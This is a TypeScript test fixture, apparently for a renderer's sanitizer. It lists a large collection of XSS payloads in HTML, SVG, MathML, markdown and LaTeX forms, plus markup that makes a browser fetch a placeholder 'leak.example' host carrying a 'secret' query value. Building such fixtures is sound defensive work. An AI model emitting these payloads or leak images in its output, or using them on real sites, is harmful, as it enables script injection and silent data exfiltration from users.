// Hostile texts, as data: each is put into answers, titles, file names and tool output. `HIT` marks what a script
// would run, `EXFIL` the host that a leak would reach. Read by the unit tests and by e2e.

export const HIT = "__hit()";
export const EXFIL = "leak.example";

/** Markup that tries to run something. */
const RAW = [
  `<script>${HIT}</script>`, `<script src=//${EXFIL}/x.js></script>`, `<script type=module>${HIT}</script>`, `<ScRiPt>${HIT}</sCrIpT>`,
  `<script/x>${HIT}</script>`, `<script\n>${HIT}</script\n>`, `<<script>${HIT}</script>`, `<scr<script>ipt>${HIT}</script>`,
  `<img src=x onerror=${HIT}>`, `<img src=x onerror="${HIT}">`, `<img/src=x/onerror=${HIT}>`, `<img src=x:x onerror=${HIT}//`,
  `<img src onerror=${HIT}>`, `<image src=x onerror=${HIT}>`, `<svg onload=${HIT}>`, `<svg/onload=${HIT}>`, `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${HIT}>`,
  `<svg><a xlink:href=javascript:${HIT}><text x=9 y=9>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/>#x"/></svg>`,
  `<svg><foreignObject><body onload=${HIT}></foreignObject></svg>`, `<svg><style><img src=x onerror=${HIT}></style></svg>`,
  `<math><mi xlink:href="javascript:${HIT}">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${HIT}></annotation-xml></math>`, `<maction actiontype="statusline#javascript:${HIT}">x</maction>`,
  `<body onload=${HIT}>`, `<body onpageshow=${HIT}>`, `<html onmouseover=${HIT}>`, `<iframe src=javascript:${HIT}></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`, `<iframe onload=${HIT}></iframe>`, `<embed src=javascript:${HIT}>`,
  `<object data=javascript:${HIT}></object>`, `<object data="data:text/html,<script>${HIT}</script>"></object>`, `<applet code=x onerror=${HIT}>`,
  `<a href=javascript:${HIT}>x</a>`, `<a href="java\tscript:${HIT}">x</a>`, `<a href="java\nscript:${HIT}">x</a>`, `<a href=" javascript:${HIT}">x</a>`,
  `<a href="&#106;avascript:${HIT}">x</a>`, `<a href="&#x6A;avascript:${HIT}">x</a>`, `<a href=JaVaScRiPt:${HIT}>x</a>`, `<a href=vbscript:${HIT}>x</a>`,
  `<a href="data:text/html,<script>${HIT}</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+">x</a>`,
  `<a onclick=${HIT}>x</a>`, `<a onfocus=${HIT} autofocus tabindex=0>x</a>`, `<form action=javascript:${HIT}><button>x</button></form>`,
  `<form><button formaction=javascript:${HIT}>x</button></form>`, `<button onclick=${HIT} autofocus onfocus=${HIT}>x</button>`,
  `<input onfocus=${HIT} autofocus>`, `<input type=image src=x onerror=${HIT}>`, `<select onfocus=${HIT} autofocus></select>`,
  `<textarea onfocus=${HIT} autofocus></textarea>`, `<keygen onfocus=${HIT} autofocus>`, `<details open ontoggle=${HIT}>x</details>`,
  `<video src=x onerror=${HIT}></video>`, `<video><source onerror=${HIT}></video>`, `<audio src=x onerror=${HIT}></audio>`,
  `<marquee onstart=${HIT}>x</marquee>`, `<isindex action=javascript:${HIT}>`, `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<link rel=import href="data:text/html,<script>${HIT}</script>">`, `<link rel=stylesheet href=javascript:${HIT}>`, `<base href=javascript:${HIT}//>`,
  `<style>@import 'javascript:${HIT}';</style>`, `<div style="background:url(javascript:${HIT})">x</div>`, `<div style="width:expression(${HIT})">x</div>`,
  `<div onpointerenter=${HIT}>x</div>`, `<p onanimationstart=${HIT} style=animation-name:pass>x</p>`, `<x contenteditable onblur=${HIT}>x</x>`,
  `<template><script>${HIT}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`, `<title><img src=x onerror=${HIT}></title>`,
  `<xmp><img src=x onerror=${HIT}></xmp>`, `<plaintext><img src=x onerror=${HIT}>`, `<listing><img src=x onerror=${HIT}></listing>`,
  `<!--><img src=x onerror=${HIT}>-->`, `<!-- --!><img src=x onerror=${HIT}>-->`, `<![CDATA[<img src=x onerror=${HIT}>]]>`, `<?xml-stylesheet href="javascript:${HIT}"?>`,
  `<table background=javascript:${HIT}><tr><td>x</table>`, `<form id=x></form><button form=x formaction=javascript:${HIT}>x</button>`,
  `<img name=body src=x><img id=getElementById src=x onerror=${HIT}>`, `<form><input name=attributes><input name=parentNode></form>`,
  `<a id=defaultView></a><a id=defaultView name=x href=javascript:${HIT}>x</a>`, `<dialog open onclose=${HIT}>x</dialog>`, `<slot onslotchange=${HIT}></slot>`,
  `<portal src=javascript:${HIT}></portal>`, `<fencedframe src=javascript:${HIT}></fencedframe>`, `<bgsound src=javascript:${HIT}>`,
  `<div popover id=p onbeforetoggle=${HIT}>x</div><button popovertarget=p>x</button>`,
];

/** Markdown that tries to become such markup. */
const MARKDOWN = [
  `[x](javascript:${HIT})`, `[x](JAVASCRIPT:${HIT})`, `[x]( javascript:${HIT})`, `[x](java&#115;cript:${HIT})`, `[x](&#x6A;avascript:${HIT})`,
  `[x](javascript&colon;${HIT})`, `[x](<javascript:${HIT}>)`, `[x](<java\tscript:${HIT}>)`, `[x](vbscript:${HIT})`, `[x](data:text/html,<script>${HIT}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+)`, `[x](blob:http://127.0.0.1/x)`, `[x](file:///etc/passwd)`, `[x](\\\\\\\\javascript:${HIT})`,
  `[x][y]\n\n[y]: javascript:${HIT}`, `[x]\n\n[x]: <javascript:${HIT}>`, `<javascript:${HIT}>`, `<data:text/html,${HIT}>`, `![x](javascript:${HIT})`,
  `![x](x" onerror="${HIT})`, `![x" onerror="${HIT}](x)`, `[x](https://e.example "title\\" onmouseover=\\"${HIT}")`, `[x](https://e.example' onclick='${HIT})`,
  `[<img src=x onerror=${HIT}>](https://e.example)`, `[x](https://e.example/"onmouseover="${HIT})`, `https://e.example/"onmouseover="${HIT}`,
  "```\"onmouseover=\"__hit()\ncode\n```", "```<img src=x onerror=__hit()>\ncode\n```", "`<img src=x onerror=__hit()>`", "```html\n<script>__hit()</script>\n```",
  `$<img src=x onerror=${HIT}>$`, `$$\n\\href{javascript:${HIT}}{x}\n$$`, `$\\href{javascript:${HIT}}{x}$`, `$\\class{" onclick="${HIT}}{x}$`,
  `$\\htmlData{x" onclick="${HIT}}{x}$`, `$\\style{x:expression(${HIT})}{x}$`, `$\\url{javascript:${HIT}}$`, `$\\includegraphics{javascript:${HIT}}$`,
  `| a |\n|---|\n| <img src=x onerror=${HIT}> |`, `| a" onclick="${HIT} |\n|:-:|\n| x |`, `# <img src=x onerror=${HIT}>`, `- <img src=x onerror=${HIT}>`,
  `> <img src=x onerror=${HIT}>`, `1. <svg onload=${HIT}>`, `**<img src=x onerror=${HIT}>**`, `~~<img src=x onerror=${HIT}>~~`,
  `&lt;img src=x onerror=${HIT}&gt;`, `&#60;img src=x onerror=${HIT}&#62;`, `\\<img src=x onerror=${HIT}>`, `<img\n\nsrc=x\n\nonerror=${HIT}>`,
  `[1](javascript:${HIT})`, `[1]: javascript:${HIT}\n\nsee [1]`, `<tool name="x" onclick="${HIT}">${HIT}</tool>`, `<tool name="x"><img src=x onerror=${HIT}></tool>`,
  `<tool name="x"/><script>${HIT}</script>`, `<tool <img src=x onerror=${HIT}>`, `<tool name="vector_search"><script>${HIT}</script>`,
  `<button class="cite" data-n="1" onclick="${HIT}">1</button>`, `<div class="codeblock"><button class="copycode" onclick=${HIT}>x</button></div>`,
  `<a class="cite" href="javascript:${HIT}">1</a>`, `\u202e<img src=x onerror=${HIT}>\u202c`, `\u0000<img src=x onerror=${HIT}>`, `<\u200bscript>${HIT}</script>`,
  `<IMG SRC="jav\u0001ascript:${HIT}">`, `\ufeff<script>${HIT}</script>`, `＜script＞${HIT}＜/script＞`, `[x](\u0001javascript:${HIT})`, `[x](javascript\u200b:${HIT})`,
];

/** The same inside what a reader sees every day. */
const WRAPPED = RAW.slice(0, 46).map((payload, i) => [`Text ${payload} text`, `- item ${payload}`, `> quoted ${payload}`, `| c |\n|---|\n| ${payload} |`][i % 4]);

export const SCRIPTS = [...RAW, ...MARKDOWN, ...WRAPPED];

const URLS = [`https://${EXFIL}/p?d=secret`, `http://${EXFIL}/p.png?d=secret`, `//${EXFIL}/p.gif?d=secret`];

/** Markup that makes a browser fetch by itself. */
export const LEAKS = URLS.flatMap((url) => [
  `![](${url})`, `![pixel](${url} "t")`, `![a][b]\n\n[b]: ${url}`, `[![](${url})](${url})`, `<img src="${url}">`, `<img srcset="${url} 1x">`,
  `<picture><source srcset="${url}"><img></picture>`, `<video poster="${url}"></video>`, `<video src="${url}" autoplay></video>`, `<audio src="${url}" autoplay></audio>`,
  `<iframe src="${url}"></iframe>`, `<embed src="${url}">`, `<object data="${url}"></object>`, `<link rel=stylesheet href="${url}">`, `<link rel=preload as=image href="${url}">`,
  `<link rel=dns-prefetch href="${url}">`, `<link rel=prefetch href="${url}">`, `<meta http-equiv=refresh content="0;url=${url}">`, `<style>@import "${url}";</style>`,
  `<div style="background-image:url(${url})">x</div>`, `<table background="${url}"><tr><td>x</table>`, `<body background="${url}">`, `<svg><image href="${url}"/></svg>`,
  `<svg><use href="${url}#x"/></svg>`, `<svg><feImage href="${url}"/></svg>`, `<input type=image src="${url}">`, `<script src="${url}"></script>`, `<base href="${url}">`,
  `<form action="${url}"><button autofocus>x</button></form>`, `<a href="${url}" ping="${url}">x</a>`, `$\\includegraphics{${url}}$`,
]);
